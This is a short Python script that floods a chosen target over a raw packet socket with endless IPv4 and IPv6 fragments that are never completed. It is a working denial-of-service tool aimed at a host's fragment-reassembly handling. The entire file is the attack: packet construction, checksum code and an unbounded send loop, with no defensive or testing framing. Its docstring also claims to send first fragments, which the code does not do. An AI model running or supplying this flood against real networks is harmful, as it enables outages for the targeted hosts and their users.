#!/usr/bin/env python3
"""Floods a link with fragments of datagrams that are never completed: firsts, middles and lasts, IPv4 and IPv6 in turn.

  fragment_flood.py INTERFACE DESTINATION-MAC SOURCE-V4 TARGET-V4 SOURCE-V6 TARGET-V6
"""

import ipaddress
import socket
import struct
import sys
import time

BURST, PAUSE_S = 2, 0.002
PART = bytes(64)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def v4(source, target, number, field):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(PART), number & 0xFFFF, field, 64, 17, 0) + source + target
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + PART


def v6(source, target, number, field):
    head = struct.pack("!IHBB", 6 << 28, 8 + len(PART), 44, 64) + source + target
    return head + struct.pack("!BBHI", 17, 0, field, number) + PART


def main():
    interface, mac, *addresses = sys.argv[1:]
    sources_and_targets = [ipaddress.ip_address(text).packed for text in addresses]
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((interface, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + link.getsockname()[4]
    number = 0
    while True:
        for _ in range(BURST):
            number += 1
            middle = number % 3 > 0
            link.send(ethernet + b"\x08\x00" + v4(*sources_and_targets[:2], number, 0x2008 if middle else 0x0010))
            link.send(ethernet + b"\x86\xdd" + v6(*sources_and_targets[2:], number, 0x41 if middle else 0x80))
        time.sleep(PAUSE_S)


if __name__ == "__main__":
    main()
